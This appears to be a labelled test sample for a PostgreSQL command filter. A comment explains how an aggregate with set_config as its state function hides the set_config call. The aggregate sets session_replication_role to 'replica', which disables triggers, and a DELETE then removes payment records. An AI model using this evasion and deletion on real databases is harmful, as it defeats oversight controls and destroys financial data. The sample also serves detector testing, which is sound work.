-- class: server-settings
-- Reaches set_config through an aggregate's state function, so no call to set_config appears anywhere.
CREATE AGGREGATE apply_defaults(text, boolean) (
  SFUNC = set_config,
  STYPE = text,
  INITCOND = 'session_replication_role'
);

SELECT apply_defaults('replica', false);
DELETE FROM payments WHERE created_at < now() - interval '7 days';
